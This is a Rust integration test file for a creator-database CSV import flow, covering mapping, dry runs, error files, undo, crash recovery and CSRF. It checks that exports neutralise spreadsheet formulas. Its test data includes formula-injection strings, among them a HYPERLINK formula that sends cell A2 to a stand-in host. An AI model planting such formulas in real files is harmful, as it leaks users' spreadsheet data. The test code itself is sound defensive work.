//! Imports through the real server: a messy spreadsheet through upload → mapping → dry
//! run → run, per-row errors with row numbers, re-importing an export changes nothing,
//! undo puts everything back exactly, a crashed job resumes without duplicates, and the
//! job routes are isolated per workspace and protected by CSRF.

use crate::harness::{Browser, TestApp, csrf_in};
use rapport_app::Ctx;
use rapport_app::imports::{self, JobSettings, JobView, Status};
use rapport_core::actor::Actor;
use rapport_core::ids::WorkspaceId;
use rapport_core::import::{ImportJobId, Mode};
use rapport_core::platform::Platform;
use rapport_core::roles::Role;
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::time::Duration;

crate::db_tests!(
    a_messy_file_is_imported_through_the_web_flow,
    the_mapping_can_be_edited_and_its_problems_block_the_run,
    reimporting_an_export_by_id_changes_nothing,
    an_export_carries_custom_fields_and_every_contact_point_into_another_workspace,
    the_error_file_writes_the_files_headers_as_text_not_formulas,
    undo_restores_the_prior_state_exactly,
    a_crashed_import_resumes_without_duplicates,
    rows_of_one_batch_see_what_the_rows_before_them_wrote,
    a_stopped_import_is_resumed_from_its_page,
    job_routes_are_isolated_per_workspace_and_protected,
);

/// UTF-8 BOM, `;`, CRLF, quoted newlines, emoji and non-Latin names, a duplicate row, a
/// blank row, "1,2M", profile URLs, and three bad rows.
const MESSY: &[u8] = include_bytes!("../fixtures/creators_messy.csv");

/// What the fixture's columns are expected to map to.
const MESSY_MAPPING: &[&str] = &[
    "display_name", "handle", "platform", "followers", "engagement_rate_pct", "email", "profile_url", "country",
    "city", "tags", "bio", "average_views",
];

fn ctx(ws: WorkspaceId) -> Ctx {
    Ctx::system(ws, Actor::System, "test")
}

/// Posts the import form with a file, as a browser does.
async fn upload(b: &Browser, fields: &[(&str, &str)], file_name: &str, content: &[u8]) -> (StatusCode, String) {
    b.upload("/imports", fields, file_name, content).await
}

/// Uploads with the session's CSRF token and returns the job's page path.
async fn upload_ok(b: &Browser, fields: &[(&str, &str)], file_name: &str, content: &[u8]) -> String {
    let (_, page) = b.get("/imports").await;
    let csrf = csrf_in(&page);
    let mut all = vec![("_csrf", csrf.as_str())];
    all.extend_from_slice(fields);
    let (s, loc) = upload(b, &all, file_name, content).await;
    assert_eq!(s, StatusCode::SEE_OTHER, "{loc}");
    assert!(loc.starts_with("/imports/imp_"), "{loc}");
    loc
}

fn job_id(path: &str) -> ImportJobId {
    path.trim_start_matches("/imports/").parse().unwrap()
}

/// The selected option of each `col_{i}` select on the mapping page.
fn selected_mapping(html: &str) -> Vec<String> {
    let mut out = Vec::new();
    for i in 0.. {
        let Some(start) = html.find(&format!("name=\"col_{i}\"")) else { break };
        let select = &html[start..start + html[start..].find("</select>").unwrap()];
        let at = select.find("\" selected>").unwrap();
        let value = select[..at].rsplit("value=\"").next().unwrap();
        out.push(value.to_string());
    }
    out
}

/// Submits the mapping page's form as shown (or with `change`s) with an action.
async fn submit_mapping(
    b: &Browser,
    path: &str,
    settings: &[(&str, &str)],
    change: &[(usize, &str)],
    action: &str,
) -> (StatusCode, String) {
    let (s, page) = b.get(path).await;
    assert_eq!(s, StatusCode::OK);
    let mut mapping = selected_mapping(&page);
    for (i, k) in change {
        mapping[*i] = k.to_string();
    }
    let names: Vec<String> = (0..mapping.len()).map(|i| format!("col_{i}")).collect();
    let mut form: Vec<(&str, &str)> = settings.to_vec();
    form.extend(names.iter().map(String::as_str).zip(mapping.iter().map(String::as_str)));
    form.push(("action", action));
    b.submit(path, &form).await
}

/// Waits until the job is neither running nor undoing.
async fn settled(app: &TestApp, ws: WorkspaceId, id: ImportJobId) -> JobView {
    for _ in 0..300 {
        let job = imports::get(&app.app, &ctx(ws), id).await.unwrap();
        if !matches!(job.status, Status::Running | Status::Undoing) {
            return job;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the import did not finish in 30 s");
}

async fn export(app: &TestApp, key: &str, format: &str) -> String {
    let r = reqwest::Client::new()
        .get(app.url(&format!("/api/v1/creators/export?format={format}")))
        .bearer_auth(key)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    r.text().await.unwrap()
}

fn by_name<'a>(all: &'a Value, name: &str) -> &'a Value {
    all.as_array().unwrap().iter().find(|c| c["display_name"] == name).unwrap_or_else(|| panic!("{name} missing"))
}

async fn a_messy_file_is_imported_through_the_web_flow(app: TestApp) {
    let (api, p) = app.api_in_new_workspace("Acme").await;
    let b = app.signed_in(&p).await;
    let (s, page) = b.get("/imports").await;
    assert_eq!(s, StatusCode::OK);
    assert!(page.contains("No imports yet"));
    let path =
        upload_ok(&b, &[("mode", "create"), ("match_key", ""), ("platform", "instagram")], "creators_messy.csv", MESSY)
            .await;

    // The mapping step: suggested targets, and a dry run that writes nothing.
    let (s, page) = b.get(&path).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(selected_mapping(&page), MESSY_MAPPING);
    assert!(page.contains("semicolon-separated"), "the separator was sniffed");
    assert!(page.contains("is also in row 2, which creates this creator first"), "the duplicate row is foreseen");
    assert!(page.contains("“lots” is not a number"));
    assert_eq!(export(&app, &api.key, "json").await.trim(), "[\n]", "the preview wrote nothing");
    let preview = imports::job_preview(&app.app, &ctx(p.workspace), job_id(&path), None).await.unwrap();
    assert_eq!((preview.total, preview.planned.created, preview.planned.failed), (10, 7, 3));

    let (s, loc) =
        submit_mapping(&b, &path, &[("mode", "create"), ("match_key", ""), ("platform", "instagram")], &[], "run")
            .await;
    assert_eq!((s, loc.as_str()), (StatusCode::SEE_OTHER, path.as_str()));
    let job = settled(&app, p.workspace, job_id(&path)).await;
    assert_eq!(job.status, Status::Completed, "{:?}", job.error);
    assert_eq!((job.total, job.rows_done), (10, 10));
    assert_eq!((job.counts.created, job.counts.updated, job.counts.unchanged, job.counts.failed), (7, 0, 0, 3));

    // Bad rows are listed with their numbers and reasons; the good ones were imported.
    let (_, page) = b.get(&path).await;
    assert!(page.contains("Undo import") && page.contains("/errors.csv"));
    let r = b.client.get(format!("{}{path}/errors.csv", b.base)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let body = r.text().await.unwrap();
    let body = body.strip_prefix('\u{feff}').expect("a byte-order mark, for Excel");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(reader.headers().unwrap().iter().take(3).collect::<Vec<_>>(), vec!["row", "error", "Full Name"]);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let numbers: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    assert_eq!(numbers, vec!["5", "6", "10"], "spreadsheet row numbers, the blank row 9 counted");
    assert!(rows[0][1].starts_with("email: elodie@example.fr already belongs to Élodie Martin"), "{}", &rows[0][1]);
    assert!(rows[1][1].contains("followers: “lots” is not a number") && rows[1][1].contains("column D “Followers”"));
    assert!(rows[1][1].contains("email: must be a valid email address") && rows[1][1].contains("“bob-at-example”"));
    assert!(rows[2][1].starts_with("platform: is not a known platform"));
    assert_eq!(&rows[1][2], "Broken Bob", "the original row follows the reason");
    assert_eq!(&rows[0][12], "Cuisine française 🇫🇷\nRecettes; tous les jours");

    let all: Value = serde_json::from_str(&export(&app, &api.key, "json").await).unwrap();
    assert_eq!(all.as_array().unwrap().len(), 7);
    let elodie = by_name(&all, "Élodie Martin");
    assert_eq!(elodie["country"], "FR");
    assert_eq!(elodie["bio"], "Cuisine française 🇫🇷\nRecettes; tous les jours");
    assert_eq!(elodie["tags"], json!(["food", "paris"]));
    assert_eq!(elodie["created_by"], "import");
    let ig = &elodie["social_accounts"][0];
    assert_eq!((ig["platform"].as_str(), ig["handle"].as_str()), (Some("instagram"), Some("elodie.cuisine")));
    assert_eq!((ig["followers"].as_i64(), ig["average_views"].as_i64()), (Some(1_200_000), Some(85_000)));
    assert_eq!(ig["engagement_rate_pct"], 3.4);
    assert_eq!(ig["url"], "https://www.instagram.com/elodie.cuisine/");
    assert_eq!(ig["source"], "csv import");
    let li = by_name(&all, "李华");
    assert_eq!((li["country"].as_str(), li["city"].as_str()), (Some("CN"), Some("上海")));
    assert_eq!(li["social_accounts"][0]["followers"], 12_500);
    let olga = by_name(&all, "Ольга Иванова");
    let yt = &olga["social_accounts"][0];
    assert_eq!((yt["platform"].as_str(), yt["handle"].as_str()), (Some("youtube"), Some("OlgaDraws")), "from the URL");
    assert_eq!(olga["tags"], json!(["art", "drawing"]));
    assert_eq!(by_name(&all, "noname_creator")["social_accounts"][0]["followers"], 950, "named after the handle");
    let jl = by_name(&all, "Jean-Luc 😀");
    assert_eq!((jl["country"].as_str(), jl["social_accounts"][0]["platform"].as_str()), (Some("DE"), Some("tiktok")));
    assert!(jl["social_accounts"][0]["followers"].is_null(), "“—” is no value");
    assert_eq!(by_name(&all, "Ana")["bio"], "Line one\nline two");
    assert_eq!(by_name(&all, "Ana")["social_accounts"][0]["average_views"], 3_200);
    assert_eq!(by_name(&all, "Zoë")["social_accounts"][0]["platform"], "instagram", "the default platform");

    let (_, timeline) = api.get(&format!("/creators/{}/timeline", elodie["id"].as_str().unwrap())).await;
    assert_eq!(timeline["items"][0]["action"], "creator.created");
    assert_eq!(timeline["items"][0]["actor"], "import");
    assert_eq!(timeline["items"][0]["actor_label"], "Import creators_messy.csv");
    let (_, list) = b.get("/imports").await;
    assert!(list.contains("creators_messy.csv") && list.contains("Completed"));
}

async fn the_mapping_can_be_edited_and_its_problems_block_the_run(app: TestApp) {
    let (api, p) = app.api_in_new_workspace("Acme").await;
    let b = app.signed_in(&p).await;
    let path = upload_ok(&b, &[("mode", "create")], "creators_messy.csv", MESSY).await;
    let settings = [("mode", "create"), ("match_key", ""), ("platform", "instagram")];
    // Not importing the email column: row 6 then has only its followers problem.
    let (s, _) = submit_mapping(&b, &path, &settings, &[(5, "ignore")], "preview").await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let (_, page) = b.get(&path).await;
    assert_eq!(selected_mapping(&page)[5], "ignore");
    let preview = imports::job_preview(&app.app, &ctx(p.workspace), job_id(&path), None).await.unwrap();
    let row6 = preview.failures.iter().find(|f| f.number == 6).unwrap();
    assert_eq!(row6.errors.iter().map(|e| e.field.as_str()).collect::<Vec<_>>(), vec!["followers"]);
    // Two columns for one field: the run is refused, naming the column; nothing runs.
    let (s, page) = submit_mapping(&b, &path, &settings, &[(5, "email"), (0, "email")], "run").await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("Email is already chosen for column A (“Full Name”)"), "{page}");
    assert!(page.contains("href=\"#col-5\""));
    let job = imports::get(&app.app, &ctx(p.workspace), job_id(&path)).await.unwrap();
    assert_eq!(job.status, Status::Previewed);
    assert_eq!(export(&app, &api.key, "json").await.trim(), "[\n]");
    // A match key without its column is named too.
    let (s, page) =
        submit_mapping(&b, &path, &[("mode", "update"), ("match_key", "id")], &[(0, "display_name")], "run").await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("matching on Rapport id needs a column mapped to Rapport id"));
    // Discarding leaves nothing behind.
    let (s, loc) = b.submit(&format!("{path}/discard"), &[]).await;
    assert_eq!((s, loc.as_str()), (StatusCode::SEE_OTHER, "/imports"));
    assert_eq!(b.get(&path).await.0, StatusCode::NOT_FOUND);
}

async fn seed(api: &crate::harness::Api) {
    api.creator(json!({
        "display_name": "Lena Bakes", "legal_name": "Lena Fischer", "pronouns": "she/her", "country": "DE",
        "city": "Berlin", "languages": ["de", "en"], "timezone": "Europe/Berlin",
        "bio": "Bakes \"sourdough\"; loves rye,\nand Mondays", "niches": ["food", "baking"], "tags": ["vip", "berlin"],
        "stage": "qualified", "source": "referral", "tone_notes": "Warm, no slang",
        "contact_points": [{"kind": "email", "value": "Lena@Example.com"}, {"kind": "email", "value": "lena.work@example.com"},
            {"kind": "phone", "value": "+49 30 1234567"}, {"kind": "phone", "value": "+49 171 7654321"},
            {"kind": "website", "value": "https://lena.example"}],
        "custom_fields": {"agency": "Nord Talent", "rate_card": 1200, "postcode": "01234", "exclusive": true,
            "ratio": 1.5, "code": "12"},
        "social_accounts": [
            {"platform": "instagram", "handle": "https://www.instagram.com/Lena.Bakes/", "followers": 120000, "engagement_rate_pct": 3.37, "average_views": 15000},
            {"platform": "tiktok", "handle": "@lenabakes", "followers": 8000, "average_views": 4000, "engagement_rate_pct": 0.1}
        ]
    }))
    .await;
    api.creator(json!({"display_name": "Olga Draws", "bio": "=HYPERLINK(\"http://evil.test\",\"x\")",
        "custom_fields": {"agency": "=cmd", "code": 12},
        "tone_notes": "-2+3 and @mentions", "social_accounts": [{"platform": "youtube", "handle": "@OlgaDraws", "followers": 55000}]}))
        .await;
    api.creator(json!({"display_name": "Élodie M.", "city": "Lyon", "tags": ["vip"],
    "contact_points": [{"kind": "email", "value": "Elodie@Example.fr"}],
    "social_accounts": [
        {"platform": "instagram", "handle": "elodie.cuisine", "followers": 900000, "engagement_rate_pct": 2.0},
        {"platform": "tiktok", "handle": "elodie.tok", "followers": 3000}
    ]}))
    .await;
}

async fn reimporting_an_export_by_id_changes_nothing(app: TestApp) {
    let (api, p) = app.api_in_new_workspace("Acme").await;
    seed(&api).await;
    let before = export(&app, &api.key, "json").await;
    let csv = export(&app, &api.key, "csv").await;
    // A cell a spreadsheet would run as a formula is written as text (a leading '), and
    // read back as it was.
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.test\"\",\"\"x\"\")\"") && csv.contains(",'-2+3 and @mentions,"),
        "{csv}"
    );
    assert!(csv.contains(",Lena@Example.com; lena.work@example.com,"), "every email, the primary first: {csv}");
    assert!(csv.contains(",'+49 171 7654321; +49 30 1234567,"), "every phone (guarded as text): {csv}");
    let header = csv.lines().next().unwrap();
    assert!(
        header.ends_with(
            ",other_accounts,custom.agency,custom.code,custom.exclusive,custom.postcode,custom.rate_card,custom.ratio"
        ),
        "one column per custom field the workspace uses: {header}"
    );
    let b = app.signed_in(&p).await;
    let path = upload_ok(&b, &[("mode", "upsert"), ("match_key", "id")], "export.csv", csv.as_bytes()).await;
    let preview = imports::job_preview(&app.app, &ctx(p.workspace), job_id(&path), None).await.unwrap();
    assert!(preview.problems.is_empty(), "{:?}", preview.problems);
    assert_eq!((preview.planned.unchanged, preview.planned_rows), (3, 3), "{:?}", preview.rows);
    let (s, _) = submit_mapping(&b, &path, &[("mode", "upsert"), ("match_key", "id")], &[], "run").await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let job = settled(&app, p.workspace, job_id(&path)).await;
    assert_eq!((job.counts.created, job.counts.updated, job.counts.unchanged, job.counts.failed), (0, 0, 3, 0));
    assert_eq!(export(&app, &api.key, "json").await, before, "nothing changed, not even updated_at");
}

/// A creator's custom fields, every email, phone and website reach another workspace
/// through the CSV export. A number, true/false or text comes back as one — text that
/// reads as a number too, where nothing says it was text, except with a leading zero.
async fn an_export_carries_custom_fields_and_every_contact_point_into_another_workspace(app: TestApp) {
    let (api, _) = app.api_in_new_workspace("Acme").await;
    seed(&api).await;
    let csv = export(&app, &api.key, "csv").await;
    let (other_api, other) = app.api_in_new_workspace("Other").await;
    let b = app.signed_in(&other).await;
    let path = upload_ok(&b, &[("mode", "create"), ("match_key", "email")], "export.csv", csv.as_bytes()).await;
    let (s, _) = submit_mapping(&b, &path, &[("mode", "create"), ("match_key", "email")], &[], "run").await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let job = settled(&app, other.workspace, job_id(&path)).await;
    assert_eq!((job.counts.created, job.counts.failed), (3, 0), "{:?}", job.error);
    let all: Value = serde_json::from_str(&export(&app, &other_api.key, "json").await).unwrap();
    let lena = by_name(&all, "Lena Bakes");
    assert_eq!(
        lena["custom_fields"],
        json!({"agency": "Nord Talent", "rate_card": 1200, "postcode": "01234", "exclusive": true, "ratio": 1.5,
            "code": 12})
    );
    let points: Vec<(String, String)> = lena["contact_points"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["kind"].as_str().unwrap().to_owned(), p["value"].as_str().unwrap().to_owned()))
        .collect();
    for (kind, value) in [
        ("email", "Lena@Example.com"),
        ("email", "lena.work@example.com"),
        ("phone", "+49 30 1234567"),
        ("phone", "+49 171 7654321"),
        ("website", "https://lena.example"),
    ] {
        assert!(points.contains(&(kind.to_owned(), value.to_owned())), "{kind} {value} in {points:?}");
    }
    assert_eq!(lena["primary_email"], "Lena@Example.com");
    let olga = by_name(&all, "Olga Draws");
    assert_eq!(
        olga["custom_fields"],
        json!({"agency": "=cmd", "code": 12}),
        "a formula-like value comes back as it was"
    );
    assert_eq!(by_name(&all, "Élodie M.")["custom_fields"], json!({}), "no column fills a field it has not got");
}

/// A header of the imported file is written back in its error file: a formula there (as in any
/// cell) is quoted as text, so opening the file runs nothing.
async fn the_error_file_writes_the_files_headers_as_text_not_formulas(app: TestApp) {
    let (_, p) = app.api_in_new_workspace("Acme").await;
    let b = app.signed_in(&p).await;
    let file = "Name,Country,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"x\"\")\",@SUM(1+1)\n=cmd,ZZ,a,b\n";
    let path = upload_ok(&b, &[("mode", "create")], "poisoned.csv", file.as_bytes()).await;
    let (s, _) = submit_mapping(&b, &path, &[("mode", "create")], &[(0, "display_name"), (1, "country")], "run").await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let job = settled(&app, p.workspace, job_id(&path)).await;
    assert_eq!(job.counts.failed, 1, "{:?}", job.error);
    let body = b.client.get(format!("{}{path}/errors.csv", b.base)).send().await.unwrap().text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header[2..], ["Name", "Country", "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")", "'@SUM(1+1)"]);
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[2], "'=cmd");
}

async fn undo_restores_the_prior_state_exactly(app: TestApp) {
    let (api, p) = app.api_in_new_workspace("Acme").await;
    seed(&api).await;
    let before_json = export(&app, &api.key, "json").await;
    let before_csv = export(&app, &api.key, "csv").await;
    let b = app.signed_in(&p).await;
    let path = upload_ok(
        &b,
        &[("mode", "upsert"), ("match_key", "email"), ("platform", "instagram")],
        "creators_messy.csv",
        MESSY,
    )
    .await;
    let (s, _) =
        submit_mapping(&b, &path, &[("mode", "upsert"), ("match_key", "email"), ("platform", "instagram")], &[], "run")
            .await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let job = settled(&app, p.workspace, job_id(&path)).await;
    // Row 2 updates Élodie (matched by email in another case), row 5 repeats it (no
    // change), Olga's YouTube handle belongs to the seeded Olga (row 4 fails).
    assert_eq!((job.counts.created, job.counts.updated, job.counts.unchanged, job.counts.failed), (5, 1, 1, 3));
    let failures = imports::failures(&app.app, &ctx(p.workspace), job.id, 10).await.unwrap();
    assert!(
        failures[0].reason.contains("youtube_handle: the YouTube account @OlgaDraws already belongs to Olga Draws")
    );
    let all: Value = serde_json::from_str(&export(&app, &api.key, "json").await).unwrap();
    let elodie = by_name(&all, "Élodie Martin");
    assert_eq!(elodie["city"], "Paris");
    assert_eq!(elodie["tags"], json!(["food", "paris", "vip"]), "tags are added");
    assert_eq!(elodie["primary_email"], "Elodie@Example.fr", "the same email in another case is kept");
    let ig = elodie["social_accounts"].as_array().unwrap().iter().find(|a| a["platform"] == "instagram").unwrap();
    assert_eq!(ig["followers"], 1_200_000);
    assert_ne!(export(&app, &api.key, "json").await, before_json);

    let (s, _) = b.submit(&format!("{path}/undo"), &[]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let job = settled(&app, p.workspace, job.id).await;
    assert_eq!(job.status, Status::Undone, "{:?}", job.error);
    assert_eq!(export(&app, &api.key, "json").await, before_json, "every field, account and time as before");
    assert_eq!(export(&app, &api.key, "csv").await, before_csv);
    let id = serde_json::from_str::<Value>(&before_json)
        .unwrap()
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["display_name"] == "Élodie M.")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (_, snapshots) = api
        .get(&format!(
            "/creators/{id}/accounts/{}/snapshots",
            by_name(&serde_json::from_str(&before_json).unwrap(), "Élodie M.")["social_accounts"][0]["id"]
                .as_str()
                .unwrap()
        ))
        .await;
    assert_eq!(snapshots.as_array().unwrap().len(), 1, "the import's metric snapshot went too");
    let (_, timeline) = api.get(&format!("/creators/{id}/timeline")).await;
    assert!(timeline["items"][0]["actor_label"].as_str().unwrap().ends_with("(undo of import creators_messy.csv)"));
    let (_, page) = b.get(&path).await;
    assert!(page.contains("This import was undone"));
    let (s, _) = b.submit(&format!("{path}/undo"), &[]).await;
    assert_eq!(s, StatusCode::CONFLICT, "an undone import cannot be undone again");
}

async fn a_crashed_import_resumes_without_duplicates(app: TestApp) {
    let (api, p) = app.api_in_new_workspace("Acme").await;
    let cx = ctx(p.workspace);
    let settings =
        JobSettings { mode: Mode::Create, default_platform: Some(Platform::Instagram), ..Default::default() };
    let job =
        imports::start(&app.app, &cx, imports::Source::Upload, "creators_messy.csv", MESSY, settings).await.unwrap();
    imports::launch(&app.app, &cx, job.id).await.unwrap();
    // The process dies after three rows.
    let n = imports::process_rows(&app.app, &cx, job.id, Some(3), |_, _| {}).await.unwrap();
    assert_eq!(n, 3);
    let job = imports::get(&app.app, &cx, job.id).await.unwrap();
    assert_eq!((job.status, job.rows_done, job.counts.created), (Status::Running, 3, 3));
    // Two servers pick it up at once: each row is still written once.
    let (a, b) = tokio::join!(
        imports::process_rows(&app.app, &cx, job.id, Some(4), |_, _| {}),
        imports::process_rows(&app.app, &cx, job.id, None, |_, _| {}),
    );
    assert!(a.unwrap() + b.unwrap() <= 7);
    // And a restart resumes what is left.
    assert_eq!(imports::resume_unfinished(&app.app).await.unwrap(), 1);
    let job = settled(&app, p.workspace, job.id).await;
    assert_eq!(job.status, Status::Completed);
    assert_eq!((job.rows_done, job.counts.created, job.counts.failed), (10, 7, 3));
    let all: Value = serde_json::from_str(&export(&app, &api.key, "json").await).unwrap();
    let mut names: Vec<&str> = all.as_array().unwrap().iter().map(|c| c["display_name"].as_str().unwrap()).collect();
    names.sort();
    let mut unique = names.clone();
    unique.dedup();
    assert_eq!((names.len(), unique.len()), (7, 7), "{names:?}");
    assert!(imports::process_rows(&app.app, &cx, job.id, None, |_, _| {}).await.is_err(), "a finished job stays done");
    let resumed = imports::resume(&app.app, &cx, job.id, |_, _| {}).await.unwrap();
    assert_eq!(resumed.counts.created, 7);
}

/// Rows are planned and written a batch at a time; a row repeating the email or the handle
/// of an earlier row of the same batch still finds the creator that row created.
async fn rows_of_one_batch_see_what_the_rows_before_them_wrote(app: TestApp) {
    let (api, p) = app.api_in_new_workspace("Acme").await;
    let cx = ctx(p.workspace);
    let file = "Name,Email,Handle,Platform,City,Followers\n\
        Ann,ann@example.com,ann,instagram,Berlin,1000\n\
        Ann B,ANN@example.com,@ann,instagram,Hamburg,1200\n\
        Bob,bob@example.com,ann,instagram,Rome,10\n\
        Bob,bob@example.com,bob,tiktok,Rome,50\n\
        Bob,bob@example.com,bob,tiktok,Rome,50\n";
    let settings = JobSettings { mode: Mode::Upsert, ..Default::default() };
    // The dry run predicts it: row 4 shares only a handle (rows find creators by email here), so
    // it cannot update Ann's creator and fails as the run does.
    let source = imports::Source::Upload;
    let dry =
        imports::preview(&app.app, &cx, source, "batch.csv", file.as_bytes(), settings.clone(), None).await.unwrap();
    let d = &dry.planned;
    assert_eq!((d.created, d.updated, d.unchanged, d.failed), (2, 1, 1, 1), "{:?}", dry.rows);
    assert!(dry.failures[0].errors[0].message.contains("rows find creators by email here"), "{:?}", dry.failures);
    let job =
        imports::start(&app.app, &cx, imports::Source::Upload, "batch.csv", file.as_bytes(), settings).await.unwrap();
    let job = imports::run(&app.app, &cx, job.id, |_, _| {}).await.unwrap();
    let c = &job.counts;
    assert_eq!((c.created, c.updated, c.unchanged, c.failed), (2, 1, 1, 1));
    let failures = imports::failures(&app.app, &cx, job.id, 10).await.unwrap();
    assert_eq!(failures.len(), 1);
    assert_eq!(failures[0].row, 4);
    assert!(failures[0].reason.contains("@ann already belongs to Ann B"), "{}", failures[0].reason);
    let all: Value = serde_json::from_str(&export(&app, &api.key, "json").await).unwrap();
    assert_eq!(all.as_array().unwrap().len(), 2);
    let ann = by_name(&all, "Ann B");
    assert_eq!(ann["city"], "Hamburg");
    assert_eq!(ann["social_accounts"][0]["followers"], 1200);
    let id = ann["id"].as_str().unwrap();
    let (_, timeline) = api.get(&format!("/creators/{id}/timeline")).await;
    let actions: Vec<&str> =
        timeline["items"].as_array().unwrap().iter().map(|e| e["action"].as_str().unwrap()).collect();
    assert_eq!(actions, ["account.updated", "creator.updated", "creator.created"]);
    let (_, found) = api.get("/creators?q=hamburg").await;
    assert_eq!(found["total"], 1, "the search text follows the update");
    let (_, found) = api.get("/creators?q=bob%40example").await;
    assert_eq!(found["items"][0]["display_name"], "Bob", "created in bulk, found by its email");
    // Two rows of one batch updating a creator that was there before: the second builds on the first.
    let file = "Email,Tags\nann@example.com,summer\nann@example.com,winter\n";
    let settings = JobSettings { mode: Mode::Update, ..Default::default() };
    let job =
        imports::start(&app.app, &cx, imports::Source::Upload, "tags.csv", file.as_bytes(), settings).await.unwrap();
    let job = imports::run(&app.app, &cx, job.id, |_, _| {}).await.unwrap();
    assert_eq!(job.counts.updated, 2);
    let (_, ann) = api.get(&format!("/creators/{id}")).await;
    assert_eq!(ann["tags"], json!(["summer", "winter"]));
}

async fn job_routes_are_isolated_per_workspace_and_protected(app: TestApp) {
    let a = app.workspace("Acme", Role::Owner).await;
    let other = app.workspace("Other", Role::Owner).await;
    let ba = app.signed_in(&a).await;
    let bo = app.signed_in(&other).await;
    let path = upload_ok(&ba, &[("platform", "instagram")], "creators_messy.csv", MESSY).await;
    // Another workspace's job is not found, whatever the route.
    assert_eq!(bo.get(&path).await.0, StatusCode::NOT_FOUND);
    assert_eq!(bo.get(&format!("{path}/errors.csv")).await.0, StatusCode::NOT_FOUND);
    assert_eq!(bo.submit(&path, &[("mode", "create"), ("action", "run")]).await.0, StatusCode::NOT_FOUND);
    assert_eq!(bo.submit(&format!("{path}/undo"), &[]).await.0, StatusCode::NOT_FOUND);
    assert_eq!(bo.submit(&format!("{path}/discard"), &[]).await.0, StatusCode::NOT_FOUND);
    assert_eq!(bo.get("/imports/imp_nonsense").await.0, StatusCode::NOT_FOUND);
    let job = imports::get(&app.app, &ctx(a.workspace), job_id(&path)).await.unwrap();
    assert_eq!(job.status, Status::Previewed, "untouched");
    // Every form needs the session's CSRF token.
    let (s, _) = upload(&ba, &[("platform", "instagram")], "x.csv", MESSY).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) = upload(&ba, &[("_csrf", "forged")], "x.csv", MESSY).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    assert_eq!(ba.post(&path, &[("mode", "create"), ("action", "run")]).await.0, StatusCode::FORBIDDEN);
    assert_eq!(ba.post(&format!("{path}/discard"), &[]).await.0, StatusCode::FORBIDDEN);
    assert_eq!(imports::list(&app.app, &ctx(a.workspace)).await.unwrap().len(), 1);
    // Viewers may not import.
    let viewer = app.person_in("Acme", "viewer@example.com", Role::Viewer).await;
    let bv = app.signed_in(&viewer).await;
    assert_eq!(bv.get("/imports").await.0, StatusCode::FORBIDDEN);
    assert_eq!(bv.get(&path).await.0, StatusCode::FORBIDDEN);
    let (s, _) = upload(&bv, &[("_csrf", &bv.csrf().await)], "x.csv", MESSY).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (_, creators) = bv.get("/creators").await;
    assert!(!creators.contains("href=\"/imports\""), "no Import link for viewers");
    let (_, creators) = ba.get("/creators").await;
    assert!(creators.contains("href=\"/imports\""));
    // An empty or non-CSV upload is refused, naming the file.
    let (_, page) = ba.get("/imports").await;
    let csrf = csrf_in(&page);
    let (s, page) = upload(&ba, &[("_csrf", &csrf)], "empty.csv", b"").await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("choose a CSV file"), "{page}");
    let (s, page) = upload(&ba, &[("_csrf", &csrf)], "photo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("not a CSV file"), "{page}");
}

async fn a_stopped_import_is_resumed_from_its_page(app: TestApp) {
    let (api, p) = app.api_in_new_workspace("Acme").await;
    let cx = ctx(p.workspace);
    let settings =
        JobSettings { mode: Mode::Create, default_platform: Some(Platform::Instagram), ..Default::default() };
    let job =
        imports::start(&app.app, &cx, imports::Source::Upload, "creators_messy.csv", MESSY, settings).await.unwrap();
    imports::launch(&app.app, &cx, job.id).await.unwrap();
    imports::process_rows(&app.app, &cx, job.id, Some(2), |_, _| {}).await.unwrap();
    // The database went away mid-run: the job is left stopped by an error.
    let mut tx = app.app.db.begin().await.unwrap();
    let message = Some("Stopped by an error: database unavailable".to_string());
    let now = rapport_core::actor::now();
    rapport_store::imports::set_status(
        &mut tx.conn(),
        p.workspace.0,
        job.id.0,
        &["running"],
        "failed",
        message,
        None,
        now,
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let b = app.signed_in(&p).await;
    let path = format!("/imports/{}", job.id);
    let (_, page) = b.get(&path).await;
    assert!(page.contains("Stopped by an error") && page.contains("Resume import"), "{page}");
    let (s, _) = b.submit(&format!("{path}/resume"), &[]).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    let job = settled(&app, p.workspace, job.id).await;
    assert_eq!((job.status, job.rows_done, job.counts.created, job.counts.failed), (Status::Completed, 10, 7, 3));
    assert_eq!(job.error, None);
